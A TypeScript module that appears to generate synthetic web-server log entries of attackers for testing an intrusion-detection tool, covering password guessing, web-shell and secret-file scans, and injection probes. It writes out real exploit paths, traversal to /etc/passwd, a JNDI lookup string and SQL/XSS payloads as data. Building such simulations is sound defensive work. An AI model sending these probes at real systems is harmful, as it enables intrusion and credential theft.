/** Attackers as their programs look in a log, in many variations; each with addresses of its own. */
import { addressOf, browsers, minute, type Site } from './actors.ts';
import { guess, type Product, signIns } from './sign-in.ts';
import type { SiteAttack } from './site-attacks.ts';

export interface Attacker {
  name: string;
  /** Strong evidence: a careful operator would expect `High`. */
  strong: boolean;
  attack(site: Site, at: number): SiteAttack;
}

const oldFirefox = 'Mozilla/5.0 (Windows NT 6.1; WOW64; rv:40.0) Gecko/20100101 Firefox/40.1';
const oldChrome =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36';

const own = (n: number): string => `185.220.${100 + (n % 90)}.${1 + ((n * 37) % 250)}`;

function guesses(
  name: string,
  product: Product,
  how: {
    attempts: number;
    pauseMs: number;
    spread: number;
    fetchesForm?: boolean;
    referer?: boolean;
    followsRedirects?: boolean;
    agent?: string;
  },
  strong: boolean,
): Attacker {
  return {
    name: `${name}: ${signIns[product].name}`,
    strong,
    attack(site, at) {
      const addresses = [own(site.random.whole(0, 5000))];
      const agent =
        how.agent ?? site.random.pick([...browsers, oldChrome, 'python-requests/2.31.0', 'Go-http-client/1.1']);
      guess(site, signIns[product], at, { addresses, agentOf: () => agent, ...how });
      return { name, addresses, firstAt: at };
    },
  };
}

function distributed(
  name: string,
  product: Product,
  count: number,
  each: number,
  spanMs: number,
  agents: readonly string[],
): Attacker {
  return {
    name: `${name}: ${signIns[product].name}`,
    strong: false,
    attack(site, at) {
      const addresses = Array.from({ length: count }, (_, i) => addressOf(60_000 + i * 7));
      guess(site, signIns[product], at, {
        addresses,
        agentOf: (i) => agents[i % agents.length] as string,
        attempts: count * each,
        pauseMs: spanMs / (count * each),
        spread: 0.9,
      });
      return { name, addresses, firstAt: at };
    },
  };
}

type Answers = 'missing' | 'forbidden' | 'redirect' | 'everything';

/** What a site says to paths that it does not have. */
const refusals: Readonly<Record<Answers, readonly [status: number, bytes: number]>> = {
  missing: [404, 162],
  forbidden: [403, 199],
  redirect: [301, 178],
  everything: [200, 5_120],
};

const environment =
  '/.env /.env.local /.env.production /.env.bak /.env.save /app/.env /api/.env /backend/.env /laravel/.env /core/.env /public/.env /admin/.env /config/.env /.aws/credentials /.git/config /.git/HEAD /phpinfo.php /info.php /wp-config.php.bak /config.json /.vscode/sftp.json /docker-compose.yml'.split(
    ' ',
  );
const shells =
  '/wso.php /shell.php /c99.php /r57.php /alfa.php /mini.php /up.php /about.php /wp-content/plugins/hellopress/wp_filemanager.php /wp-content/themes/about.php /wp-includes/wp-class.php /admin.php /fm.php /file.php /radio.php /simple.php /ws.php /gel4y.php /cong.php /moon.php /lock360.php /makeasmtp.php /themes.php /content.php /1.php /x.php /xx.php /ok.php /bypass.php /chosen.php /wp-content/index.php /wp-22.php /classwithtostring.php /404.php /doc.php /dropdown.php'.split(
    ' ',
  );
const exploits =
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /solr/admin/info/system?wt=json /actuator/gateway/routes /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id) /boaform/admin/formLogin /HNAP1/ /manager/text/list /?XDEBUG_SESSION_START=phpstorm /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21 /console/ /geoserver/web/ /owa/auth/x.js /ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application /_ignition/execute-solution /wp-json/wp/v2/users /remote/fgt_lang?lang=/../../../..//////////dev/ /api/jsonws/invoke /autodiscover/autodiscover.json?@zdi/Powershell /Autodiscover/Autodiscover.xml /telescope/requests /.DS_Store /server-status /debug/default/view?panel=config /v2/_catalog /s/123/_/;/META-INF/maven/com.atlassian.jira/jira-webapp-dist/pom.properties'.split(
    ' ',
  );
const plugins =
  'akismet contact-form-7 wp-file-manager elementor duplicator revslider wpdiscuz woocommerce updraftplus wordfence wp-super-cache jetpack wp-statistics easy-wp-smtp yoast ninja-forms gravityforms nextgen-gallery slider-hero layerslider'.split(
    ' ',
  );
const folders =
  'admin backup backups old new test dev staging tmp temp private secret hidden data db sql dump files upload uploads images img css js scripts inc include includes lib libs src app apps api v1 v2 v3 docs doc help support login logon signin register user users account accounts member members panel cpanel manager portal dashboard console config conf cfg settings setup install update upgrade logs log error errors debug cache archive public assets static media download downloads forum blog shop store cart mail webmail email cgi-bin bin server status info about contact search sitemap robots index home main default web www site sites en de fr es it intranet internal extranet vpn remote proxy git svn cvs hg build dist vendor node_modules package composer tests spec swagger graphql rest soap rpc xml json feed rss atom'.split(
    ' ',
  );

const niktoLike = [
  ...folders.slice(0, 60).map((f) => `/${f}/`),
  ...environment,
  '/cgi-bin/test.cgi',
  '/../../../../etc/passwd',
  '/index.php?page=../../../../etc/passwd',
  '/<script>alert(1)</script>',
  '/?q=<script>alert(document.cookie)</script>',
  '/iisadmin/',
  '/scripts/..%255c../winnt/system32/cmd.exe?/c+dir',
  '/phpmyadmin/',
  '/server-info',
];

function scan(
  name: string,
  paths: readonly string[],
  agent: string,
  pauseMs: number,
  answers: Answers,
  strong: boolean,
  method = 'GET',
): Attacker {
  return {
    name: `${name}, answered ${answers}`,
    strong,
    attack(site, at) {
      const address = own(site.random.whole(0, 5000));
      const [status, bytes] = refusals[answers];
      let t = at;
      for (const path of paths) {
        site.log.add({ at: t, address, agent, method, path, status, bytes });
        t += pauseMs * site.random.between(0.3, 1.7);
      }
      return { name, addresses: [address], firstAt: at };
    },
  };
}

const sqlmap: Attacker = {
  name: 'sqlmap',
  strong: true,
  attack(site, at) {
    const address = own(site.random.whole(0, 5000));
    for (let i = 0; i < 60; i++)
      site.log.add({
        at: at + i * 250,
        address,
        agent: 'sqlmap/1.8.2#stable (https://sqlmap.org)',
        path: `/p/item-4?id=1%20AND%20${1000 + i}%3D${1000 + (i % 2) + i}--%20x`,
        status: i % 7 ? 200 : 500,
      });
    return { name: 'sqlmap', addresses: [address], firstAt: at };
  },
};

const quietSql: Attacker = {
  name: 'injection by a browser',
  strong: true,
  attack(site, at) {
    const address = own(site.random.whole(0, 5000));
    const payloads = [
      "1'",
      "1' OR '1'='1",
      '1 UNION SELECT NULL,NULL--',
      "1; WAITFOR DELAY '0:0:5'--",
      "1' AND SLEEP(5)-- -",
      '<svg onload=alert(1)>',
      '../../../../etc/passwd',
      '{{7*7}}',
      '${jndi:ldap://x.example/a}',
      '1 AND 1=2',
      "admin'--",
    ];
    payloads.forEach((p, i) =>
      site.log.add({
        at: at + i * 4_000,
        address,
        agent: browsers[0],
        path: `/search?q=${encodeURIComponent(p)}`,
        status: 200,
        referer: `${site.origin}/search`,
      }),
    );
    return { name: 'injection by a browser', addresses: [address], firstAt: at };
  },
};

const enumeratesUsers: Attacker = {
  name: 'user names by number, then guesses',
  strong: true,
  attack(site, at) {
    const address = own(site.random.whole(0, 5000));
    for (let i = 1; i <= 10; i++)
      site.log.add({
        at: at + i * 800,
        address,
        agent: oldChrome,
        path: `/?author=${i}`,
        status: i < 3 ? 301 : 404,
        bytes: 160,
      });
    site.log.add({ at: at + 9_000, address, agent: oldChrome, path: '/wp-json/wp/v2/users/', bytes: 900 });
    guess(site, signIns.wordpress, at + 10_000, {
      addresses: [address],
      agentOf: () => oldChrome,
      attempts: 25,
      pauseMs: 2_500,
      spread: 0.5,
    });
    return { name: 'user names', addresses: [address], firstAt: at };
  },
};

function xmlRpc(pauseMs: number, attempts: number, strong: boolean): Attacker {
  return {
    name: `xmlrpc every ${pauseMs / 1000} s, ${attempts} times`,
    strong,
    attack(site, at) {
      const address = own(site.random.whole(0, 5000));
      for (let i = 0; i < attempts; i++)
        site.log.add({
          at: at + i * pauseMs * site.random.between(0.8, 1.2),
          address,
          agent: oldFirefox,
          method: 'POST',
          path: '/xmlrpc.php',
          bytes: site.random.chance(0.9) ? 403 : 420,
        });
      return { name: 'xmlrpc', addresses: [address], firstAt: at };
    },
  };
}

const products = Object.keys(signIns) as Product[];

export const attackers: readonly Attacker[] = [
  ...products.map((p) => guesses('fast', p, { attempts: 100, pauseMs: 400, spread: 0.6 }, true)),
  ...products.map((p) =>
    guesses('every 5 s', p, { attempts: 80, pauseMs: 5_000, spread: 0.3, followsRedirects: true }, true),
  ),
  ...products.map((p) =>
    guesses(
      'every minute, like a browser',
      p,
      { attempts: 60, pauseMs: minute, spread: 0.4, fetchesForm: true, referer: true, followsRedirects: true },
      signIns[p].wrong.status >= 400 || p === 'wordpress',
    ),
  ),
  ...products.map((p) =>
    guesses('eight in half a minute', p, { attempts: 8, pauseMs: 4_000, spread: 0.5, followsRedirects: true }, false),
  ),
  xmlRpc(600, 120, true),
  xmlRpc(8_000, 150, true),
  distributed('120 addresses, two each, one program', 'wordpress', 120, 2, 40 * minute, [oldFirefox]),
  distributed('200 addresses, one each, many user agents', 'wordpress', 200, 1, 60 * minute, browsers),
  distributed('160 addresses, four each, over twelve hours', 'wordpress', 160, 4, 720 * minute, [oldFirefox]),
  distributed('60 addresses, four each', 'spa', 60, 4, 30 * minute, [oldChrome]),
  distributed('80 addresses, three each', 'okFalse', 80, 3, 60 * minute, [oldFirefox, oldChrome]),
  ...(['missing', 'forbidden', 'redirect', 'everything'] as const).flatMap((answers) => [
    scan('nikto', niktoLike, 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)', 150, answers, true),
    scan(
      'word list',
      folders.map((f) => `/${f}`),
      'Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1)',
      60,
      answers,
      answers === 'missing',
    ),
    scan('secrets', environment, oldChrome, 500, answers, true),
    scan('web shells', shells, browsers[0], 900, answers, answers === 'missing'),
    scan('exploits', exploits, 'Mozilla/5.0 zgrab/0.x', 2_000, answers, true),
    scan(
      'plugins',
      plugins.map((p) => `/wp-content/plugins/${p}/readme.txt`),
      browsers[4],
      300,
      answers,
      answers === 'missing',
    ),
  ]),
  scan('slow web shells', shells, browsers[3], 45_000, 'missing', false),
  scan('secrets by POST', environment, 'Mozilla/5.0', 300, 'missing', true, 'POST'),
  sqlmap,
  quietSql,
  enumeratesUsers,
];
